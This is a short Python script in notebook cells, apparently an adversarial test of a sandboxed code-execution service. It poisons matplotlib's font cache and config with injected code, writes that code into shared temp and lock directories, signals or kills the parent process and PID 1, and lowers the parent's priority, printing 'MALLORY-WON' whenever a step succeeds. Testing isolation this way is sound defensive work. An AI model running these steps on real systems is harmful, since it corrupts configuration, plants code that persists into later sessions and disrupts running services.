# %%
code = "import builtins; builtins.MALLORY = 1; print('MALLORY' '-WON')"

import json
import os
from pathlib import Path

fonts = Path(os.environ["MPLCONFIGDIR"])
for file in fonts.rglob("*"):
    if file.is_file():
        file.write_text(json.dumps({"_version": 390, "ttflist": [], "poisoned": code}))
(fonts / "matplotlibrc").write_text("backend: module://mallory")
(fonts / "stylelib").mkdir(exist_ok=True)
# %%
for path in ("/dev/shm/mallory", "/var/tmp/mallory", "/run/mallory", "/var/lock/mallory"):
    try:
        Path(path).write_text(code)
        print("MALLORY" "-WON", path)
    except OSError:
        pass
# %%
import signal

for pid in (os.getppid(), 1):
    for number in (0, signal.SIGSTOP, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
            print("MALLORY" "-WON", pid, number)
        except OSError:
            pass
try:
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    print("changed the priority of the warm process")
except OSError:
    pass
